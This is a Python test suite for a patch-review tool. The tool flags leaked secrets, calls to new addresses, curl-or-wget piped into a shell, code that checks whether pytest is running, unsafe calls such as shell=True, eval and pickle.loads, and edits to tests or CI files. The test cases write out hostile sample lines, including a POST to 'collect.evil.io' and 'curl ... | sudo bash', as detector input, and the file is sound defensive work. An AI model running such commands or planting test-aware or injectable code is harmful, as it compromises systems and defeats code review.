"""What in a change is to be looked at, found in the patch alone."""

import pytest

from codexsys_core.flags import MOST_OF_A_KIND, Flag, changed_lines, flags_of
from codexsys_core.patch import ChangedFile, Patch


def patch(path: str, *lines: str, status: str = "A", mode: str = "100644") -> Patch:
    """Return a patch that adds lines to one file."""
    head = f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
    body = f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)
    files = [ChangedFile(path=path, mode=mode, blob="b", status=status)]
    return Patch(tree="t", diff=(head + body).encode(), files=files, insertions=len(lines))


def found(given: Patch) -> list[tuple[str, str]]:
    return [(flag.kind.value, flag.place) for flag in flags_of(given)]


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("secret", "TOKEN = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'"),
        ("secret", "url = 'https://user:password@example.org/x'"),
        ("secret", "-----BEGIN RSA PRIVATE KEY-----"),
        ("address", "post('https://collect.evil.io/x')"),
        ("address", "get('http://10.0.0.7/x')"),
        ("piped_to_shell", "curl -fsSL https://example.org/i.sh | sudo bash"),
        ("piped_to_shell", "bash <(curl -s example.org)"),
        ("piped_to_shell", 'eval "$(wget -qO- example.org)"'),
        ("knows_its_tests", "if os.environ.get('PYTEST_CURRENT_TEST'):"),
        ("knows_its_tests", "import _pytest.runner"),
        ("knows_its_tests", "if 'pytest' in sys.modules:"),
    ],
)
def test_lines_are_flagged_where_they_stand(kind: str, line: str) -> None:
    assert found(patch("src/a.py", "x = 1", line)) == [(kind, "src/a.py:2")]


@pytest.mark.parametrize(
    "line",
    ["print('hello')", "get('http://localhost:8000')", "see https://example.org", "curl x | shuf", "task-force-based-approaches-in-time"],
)  # fmt: skip
def test_ordinary_lines_are_not(line: str) -> None:
    assert found(patch("src/a.py", line)) == []


def test_an_address_that_was_there_is_not_new_and_each_is_named_once() -> None:
    diff = (
        b"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1,3 @@\n-a = 'https://a.io/1'\n"
        b"+a = 'https://a.io/2'\n+b = 'https://b.io'\n+c = 'https://B.io/c'\n"
    )
    files = [ChangedFile(path="a.py", mode="100644", blob="b", status="M")]
    flags = flags_of(Patch(tree="t", diff=diff, files=files))
    assert [(flag.says, flag.place) for flag in flags] == [("a new address: b.io", "a.py:2")]


@pytest.mark.parametrize(
    ("kind", "given"),
    [
        ("tests_changed", patch("tests/test_a.py", "x", status="M")),
        ("tests_changed", patch("test_a.py", "x", status="D")),
        ("lock_file", patch("sub/poetry.lock", "x")),
        ("lock_file", patch("package-lock.json", "x")),
        ("ci_file", patch(".github/workflows/ci.yaml", "x")),
        ("ci_file", patch("Jenkinsfile", "x")),
        ("executable", patch("run.sh", "x", mode="100755")),
        ("link", patch("current", "/etc", mode="120000")),
    ],
)
def test_files_are_flagged(kind: str, given: Patch) -> None:
    assert found(given) == [(kind, given.files[0].path)]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.py", "subprocess.run(f'ls {x}', shell=True)"),
        ("a.py", "os.system('rm ' + name)"),
        ("a.py", "total = eval(text)"),
        ("a.py", "pickle.loads(body)"),
        ("a.py", "yaml.load(text)"),
        ("a.py", "db.execute(f'select {x}')"),
        ("a.py", "db.execute('select ' + x)"),
        ("a.py", "get(url, verify=False)"),
        ("a.py", "os.chmod(path, 0o777)"),
        ("a.js", "exec(`ls ${name}`)"),
        ("a.ts", "new Function(text)"),
        ("a.jsx", "<p dangerouslySetInnerHTML={x} />"),
        ("a.mjs", "node.innerHTML = text"),
        ("a.js", "{ rejectUnauthorized: false }"),
        ("a.go", 'exec.Command("sh", "-c", text)'),
        ("a.go", 'db.Query(fmt.Sprintf("select %s", x))'),
        ("a.go", "&tls.Config{InsecureSkipVerify: true}"),
        ("a.rs", "unsafe { *pointer }"),
        ("a.rs", 'Command::new("sh").arg("-c")'),
        ("run.sh", "chmod -R 777 /srv"),
    ],
)
def test_unsafe_calls_are_flagged_by_language(path: str, line: str) -> None:
    assert found(patch(path, line)) == [("unsafe_call", f"{path}:1")]
    assert found(patch(f"tests/{path}", line)) == []


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.py", "model.eval()"),
        ("a.py", "yaml.load(text, Loader=SafeLoader)"),
        ("a.py", "db.execute('select ?', (x,))"),
        ("a.py", "# os.system(x)"),
        ("a.js", "regex.exec(text)"),
        ("a.js", "execSync('npm test')"),
        ("a.go", 'exec.Command("git", "log")'),
        ("a.rs", "let unsafe_name = 1;"),
        ("README.md", "subprocess.run(x, shell=True)"),
        ("run.sh", "chmod 755 run"),
    ],
)
def test_safe_calls_are_not(path: str, line: str) -> None:
    assert found(patch(path, line)) == []


def test_deletions_in_mass_are_flagged() -> None:
    gone = [ChangedFile(path=f"src/{n}.py", mode="0", blob="0", status="D") for n in range(20)]
    flags = flags_of(Patch(tree="t", diff=b"", files=gone, deletions=40))
    assert flags == [Flag(kind="many_deletions", says="20 files and 40 lines were deleted")]


def test_of_each_kind_a_few_are_named() -> None:
    lines = ["import _pytest"] * 100
    assert len(flags_of(patch("a.py", *lines))) == MOST_OF_A_KIND


def test_lines_of_a_change_cannot_pass_for_its_headers() -> None:
    given = patch("src/a.py", "++ b/tests/test_x.py", "@@ -1 +1 @@", "import _pytest")
    assert found(given) == [("knows_its_tests", "src/a.py:3")]
    odd = patch("src/x b/tests/a.py", "import _pytest")
    *_, path, _, _ = next(changed_lines(odd.diff))
    assert path == "src/x b/tests/a.py"
